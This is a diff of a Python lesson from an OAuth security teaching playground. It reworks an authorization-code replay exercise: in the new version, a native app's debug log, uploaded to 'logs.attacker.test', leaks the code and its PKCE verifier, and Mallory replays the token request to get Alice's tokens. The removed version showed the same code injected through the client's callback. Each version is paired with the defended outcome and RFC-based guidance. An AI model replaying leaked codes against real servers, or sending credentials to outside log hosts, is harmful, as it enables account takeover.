@@ -1,235 +1,161 @@
-"""Authorization code replay: a leaked, already-used code redeemed a second
-time (RFC 6749 4.1.2 and 10.5, RFC 9700 4.3.1 and 4.5)."""
-
-import json
-from urllib.parse import parse_qs, urlencode, urlsplit
+"""Authorization code replay: a used code, and its verifier, redeemed a second
+time (RFC 6749 4.1.2 and 10.5, RFC 9700 4.2.4)."""
 
 from playground import Lesson
 
+LOG_SERVICE = "https://logs.attacker.test/upload"
+ALICE = "u-1001"
+REUSED = "The code was already used; the tokens issued from it are revoked."
+
 lesson = Lesson(
-    "Authorization code replay",
+    "Authorization code replay: a used code and its verifier leak from a log",
     level="intermediate",
     kind="attack",
-    weakness=("as.allow_code_reuse", "client.no_pkce", "as.pkce_optional"),
+    weakness="as.allow_code_reuse",
     summary=(
-        "Alice's authorization code leaks from a log after PhotoPrint has "
-        "used it. Mallory cannot redeem it herself (PhotoPrint is a "
-        "confidential client with a secret), so she injects it into her own "
-        "PhotoPrint sign-in and lets PhotoPrint redeem it a second time. An "
-        "authorization server that allows code reuse hands out a second set "
-        "of tokens for Alice, to Mallory's session. PKCE would stop the "
-        "injection on its own (Mallory's session holds another code "
-        "verifier), so the attack run also turns it off (`client.no_pkce`, "
-        "`as.pkce_optional`): this lesson is about what the server does with "
-        "a code it has seen before."
+        "Photo Uploader, a native app, logs its token requests at debug level "
+        "and uploads the log to a service Mallory reads. The log holds the "
+        "code and the code verifier together, so PKCE cannot help: Mallory "
+        "sends the same token request again. Only the authorization server "
+        "can stop her, by redeeming a code once and treating a second "
+        "redemption as theft. (A code stolen *before* it is used, and injected "
+        "into another session, is a different attack: see 'Authorization code "
+        "injection', which PKCE stops.)"
     ),
     defence="""
 **A code is single-use, and a replay is a sign of theft.**
 
 - The authorization server must refuse a code it has already redeemed and
-  **should revoke every token issued from it** (RFC 6749 4.1.2 and 10.5,
-  RFC 9700 4.2.4). Here the second redemption gets **400**
-  `invalid_grant`, "The code was already used; the tokens issued from it are
-  revoked.", the server logs `authorization_code.reused`, and Alice's first
-  access token introspects as `{"active": false}`. Alice has to sign in
-  again; Mallory gets nothing.
-- Keep codes short-lived (RFC 6749 4.1.2 recommends at most 10 minutes) and
-  keep them out of logs: the code rides in the URL of the callback, so it
-  lands in browser history, proxy and server access logs, and `Referer`
-  headers (RFC 9700 4.2.4 and 4.3.1, RFC 6819 4.4.1.1).
-- PKCE stops the injection itself: the code is bound to the code verifier
-  kept in the session that started the flow, and Mallory's session has a
-  different one (RFC 9700 2.1.1 and 4.5.3, RFC 7636). `state` does **not**
-  stop it: Mallory uses her own, valid `state` (RFC 9700 4.5).
+  **should revoke every token issued from it** (RFC 6749 4.1.2 and 10.5).
+  Here the replay gets **400** `invalid_grant`, "The code was already used;
+  the tokens issued from it are revoked.", the server logs
+  `authorization_code.reused`, and Alice's app finds its tokens revoked: it
+  has to sign Alice in again, and Mallory gets nothing.
+- Keep codes short-lived (RFC 6749 4.1.2 recommends at most 10 minutes; this
+  server's live 60 seconds): a replay must come fast.
+- Keep credentials out of logs: a code with its verifier is as good as a
+  token until it is used (RFC 9700 4.9.3 asks the same of tokens). PKCE
+  protects a code that leaks *alone*; it cannot protect one whose verifier
+  leaks with it.
 - Revocation reaches only servers that ask: an API that validates JWT access
-  tokens locally keeps accepting a revoked one until it expires, so keep
-  access tokens short-lived or introspect (RFC 6819 5.1.5.3, RFC 7662).
+  tokens locally keeps accepting a revoked one until it expires (here an
+  hour), so keep access tokens short-lived or introspect (RFC 6819 5.1.5.3,
+  RFC 7662).
 """,
 )
 
 
-@lesson.step("Alice signs in to PhotoPrint")
+@lesson.step("Alice signs in to Photo Uploader")
 def alice_signs_in(run):
     """
-    An ordinary sign-in: PhotoPrint's `/login` sends Alice's browser to the
-    authorization server, she signs in as `alice` and approves. The AS
-    answers **302** to `https://photoprint.test/callback?code=...`.
-
-    Note the code in the `Location` header: from here on it sits in a URL.
+    Photo Uploader, the desktop app of lesson 03b, signs Alice in: code and
+    PKCE through her browser, then `POST /token` from the app with the code
+    and the **code verifier** (`run.code_flow` does lesson 03b in one go).
+    The app gets its tokens.
     """
-    run.browser.open(f"{run.client_url}/login")
-    run.browser.follow_redirect()
-    run.browser.sign_in("alice", "wonderland")
-    run.browser.follow_redirect()
-    run.browser.approve()
+    response = run.code_flow(run.native_app, run.browser, "alice", "wonderland")
+    run.token_request = run.last_request.form
+    run.app_tokens = dict(run.native_app.tokens)
+    run.check("the token endpoint answers 200", response.status_code == 200)
     run.check(
-        "the authorization server answers 302 to PhotoPrint's /callback with a code",
-        (run.browser.redirect_location or "").startswith(
-            f"{run.client_url}/callback?code="
-        ),
+        "the token request carried the code and the code verifier",
+        {"code", "code_verifier"} <= set(run.token_request),
     )
 
 
-@lesson.step("PhotoPrint redeems the code; the URL stays in the logs")
-def photoprint_redeems(run):
+@lesson.step("The app's debug log goes to a log service")
+def leak(run):
     """
-    The browser delivers the code (`GET /callback?code=...`) and PhotoPrint
-    redeems it on the back channel, authenticated with its secret: **200**,
-    and Alice sees her photos.
-
-    The first exchange of this step is what an access log records: a
-    TLS-terminating proxy, PhotoPrint's own web server, a monitoring tool.
-    The same URL is in Alice's browser history. The code is spent, so
-    nobody worries about it (RFC 9700 4.3.1).
+    The app logs every request it sends, at debug level, and uploads the log
+    to a hosted log service. The token request is in there, body and all:
+    `code`, `code_verifier`, `redirect_uri`, `client_id`. Read the request:
+    from the **client** to `logs.attacker.test`. The service's storage is
+    readable by whoever finds it: Mallory.
     """
-    run.browser.follow_redirect()
-    callback = run.exchanges[0]
-    run.leaked_code = parse_qs(urlsplit(callback.request.url).query)["code"][0]
-    run.first_tokens = dict(run.web_client.tokens_for_browser(run.browser))
+    response = run.native_app.http.post(LOG_SERVICE, data=run.token_request)
+    run.check("the upload went through", response.status_code == 200)
     run.check(
-        'the page says "Hello Alice Liddell from Oxford!"',
-        "Hello Alice Liddell from Oxford!" in run.browser.page.text,
-    )
-    run.check(
-        "the code is in the request line an access log records",
-        callback.request.target.startswith(f"/callback?code={run.leaked_code}&"),
-    )
-    run.check(
-        "and in Alice's browser history",
-        any(run.leaked_code in url for url in run.browser.history),
-    )
-    run.check(
-        "PhotoPrint holds Alice's tokens",
-        run.first_tokens.get("access_token", "") != "",
+        "Mallory holds the code and its verifier",
+        run.attacker.loot("code") == [run.token_request["code"]]
+        and run.attacker.loot("code_verifier") == [run.token_request["code_verifier"]],
     )
 
 
-@lesson.step("Mallory starts her own sign-in at PhotoPrint")
-def mallory_starts(run):
+@lesson.step("Mallory sends the same token request again")
+def replay(run):
     """
-    Mallory read the log. She has Alice's code but not PhotoPrint's client
-    secret, so she cannot call the token endpoint herself. Instead she makes
-    **PhotoPrint** redeem it for her.
+    Within the code's minute, Mallory sends exactly the request the app
+    sent: `grant_type=authorization_code`, the code, the redirect URI, the
+    verifier, and `client_id=photo-uploader-native`. A public client has no
+    secret, so nothing else is needed (RFC 6749 2.1). The verifier matches
+    the challenge: PKCE is satisfied.
 
-    In her own browser she opens PhotoPrint's `/login`. PhotoPrint keeps a
-    fresh `state` on its server, in the session her `photoprint_session`
-    cookie points to, and redirects her to the authorization server; she does
-    not follow. She only needed a valid `state` of her own.
-
-    Mallory's browser appears in the transcript as **Attacker**; Alice's as
-    **Browser**.
+    - **Weakness on** (`as.allow_code_reuse`): the code was used, but the
+      server redeems it again: **200**, a second set of tokens for Alice, in
+      Mallory's hands. She reads Alice's photos.
+    - **Defended**: **400** `invalid_grant`, "The code was already used; the
+      tokens issued from it are revoked." The server logs
+      `authorization_code.reused` (read the server events).
     """
-    mallory = run.attacker.browser
-    mallory.open(f"{run.client_url}/login")
-    location = mallory.redirect_location or ""
-    run.mallorys_state = parse_qs(urlsplit(location).query).get("state", [""])[0]
-    run.check(
-        "PhotoPrint gave Mallory's session its own state",
-        run.mallorys_state != "" and location.startswith(f"{run.issuer}/"),
-    )
-
-
-@lesson.step("Mallory injects Alice's code: a second redemption of the same code")
-def mallory_injects(run):
-    """
-    Mallory's browser opens
-    `/callback?code=<Alice's code>&state=<Mallory's state>`. The `state`
-    matches Mallory's session, so PhotoPrint's state check passes, and
-    PhotoPrint sends `POST /token` with the code **a second time**, with its
-    own valid secret. Read the token request and the answer.
-
-    - **Weakness on**: the authorization server does not remember that the
-      code was used. **200**, fresh tokens, and Mallory's browser shows
-      **Alice's** name and photos.
-    - **Defended**: the code-reuse check at the token endpoint answers
-      **400** `invalid_grant`, "The code was already used; the tokens issued
-      from it are revoked." PhotoPrint shows Mallory "Sign-in failed".
-    """
-    mallory = run.attacker.browser
-    injected = {"code": run.leaked_code, "state": run.mallorys_state, "iss": run.issuer}
-    mallory.open(f"{run.client_url}/callback?{urlencode(injected)}")
-    token_requests = [e for e in run.exchanges if e.label == "POST /token"]
-    replay = token_requests[0] if token_requests else None
-    run.check(
-        "PhotoPrint sent the same code to the token endpoint again",
-        replay is not None and replay.request.form.get("code") == run.leaked_code,
-    )
+    form = {
+        "grant_type": "authorization_code",
+        "code": run.attacker.loot("code")[-1],
+        "code_verifier": run.attacker.loot("code_verifier")[-1],
+        "redirect_uri": run.token_request["redirect_uri"],
+        "client_id": run.token_request["client_id"],
+    }
+    response = run.attacker.token_request(form)
     if run.weakness_on:
-        second = run.web_client.tokens_for_browser(mallory)
+        photos = run.attacker.call_api(
+            "/api/photos", run.attacker.stolen["access_token"]
+        )
+        run.check("the token endpoint answers 200", response.status_code == 200)
         run.check(
-            "the token endpoint answers 200",
-            replay is not None and replay.response.status == 200,
+            "with new tokens, not the app's",
+            run.attacker.stolen["access_token"] != run.app_tokens["access_token"],
         )
         run.check(
-            "with new tokens, not the first ones",
-            second.get("access_token")
-            not in ("", None, run.first_tokens.get("access_token", "")),
-        )
-        run.check(
-            'Mallory\'s page says "Hello Alice Liddell from Oxford!"',
-            "Hello Alice Liddell from Oxford!" in mallory.page.text,
-        )
-        run.check(
-            "and lists Alice's photos",
-            "Tea party" in mallory.page.text and "Croquet lawn" in mallory.page.text,
+            "and Mallory reads Alice's photos",
+            photos.status_code == 200 and photos.json().get("owner") == ALICE,
         )
     else:
-        answer = replay.response if replay else None
-        body = json.loads(answer.body) if answer and answer.body else {}
-        run.check("the token endpoint answers 400", answer and answer.status == 400)
+        run.check("the token endpoint answers 400", response.status_code == 400)
         run.check(
             "invalid_grant: the code was already used, its tokens revoked",
-            body
-            == {
-                "error": "invalid_grant",
-                "error_description": (
-                    "The code was already used; the tokens issued from it are revoked."
-                ),
-            },
+            response.json() == {"error": "invalid_grant", "error_description": REUSED},
         )
         run.check(
             "the server logged authorization_code.reused",
-            [e.detail for e in run.events_named("authorization_code.reused")]
-            == ["1 token(s) issued from this code revoked"],
-        )
-        run.check(
-            'PhotoPrint shows Mallory "Sign-in failed" (400)',
-            mallory.status == 400 and "Sign-in failed" in mallory.page.text,
+            len(run.events_named("authorization_code.reused")) == 1,
         )
 
 
-@lesson.step("What became of Alice's first tokens?")
-def first_tokens(run):
+@lesson.step("What became of the app's own tokens?")
+def app_tokens(run):
     """
-    The photos API asks the authorization server about Alice's **first**
-    access token, the one PhotoPrint got in step 2 (`POST /introspect`,
-    RFC 7662).
+    The authorization server cannot tell the app from the thief: both sent
+    the same request. So, defended, it revoked everything the code produced.
 
-    - **Weakness on**: `"active": true`. Both sets of tokens work: Alice's
-      and the one in Mallory's PhotoPrint session. Nobody noticed.
-    - **Defended**: `{"active": false}`. Detecting the replay, the AS revoked
-      everything issued from the code. That hurts Alice too (she must sign
-      in again), and it is the right trade: the AS cannot tell which
-      redemption was the thief's (RFC 6749 4.1.2).
-
-    Mind the last bullet of "How to defend": this API validates JWTs locally
-    unless told to introspect, so a revoked JWT still works there until it
-    expires.
+    - **Weakness on**: nobody noticed. The app's tokens are still active,
+      and so are Mallory's.
+    - **Defended**: introspection says the app's access token is
+      `{"active": false}`, and its refresh token is refused: the app must
+      sign Alice in again, and Mallory holds nothing. (A JWT access token is
+      still accepted by an API that validates it locally, until it expires:
+      revocation reaches only servers that ask.)
     """
-    answer = run.introspect(run.first_tokens.get("access_token", "")).json()
-    mallorys = run.web_client.tokens_for_browser(run.attacker.browser)
+    introspected = run.introspect(run.app_tokens["access_token"]).json()
+    refreshed = run.native_app.refresh(run.app_tokens["refresh_token"])
     if run.weakness_on:
-        run.check("Alice's first access token is still active", answer.get("active"))
-        claims = run.show_jwt(
-            mallorys.get("access_token", ""), "the token in Mallory's session"
-        ).claims
-        run.check(
-            "Mallory's PhotoPrint session holds a token about Alice (sub u-1001)",
-            claims.get("sub") == "u-1001",
-        )
+        run.check("the app's access token is still active", introspected["active"])
+        run.check("its refresh token still works (200)", refreshed.status_code == 200)
     else:
         run.check(
             'introspection answers {"active": false}: revoked',
-            answer == {"active": False},
+            introspected == {"active": False},
         )
-        run.check("Mallory's PhotoPrint session holds no tokens", mallorys == {})
+        run.check(
+            "the refresh token is refused (invalid_grant)",
+            refreshed.status_code == 400
+            and refreshed.json().get("error") == "invalid_grant",
+        )
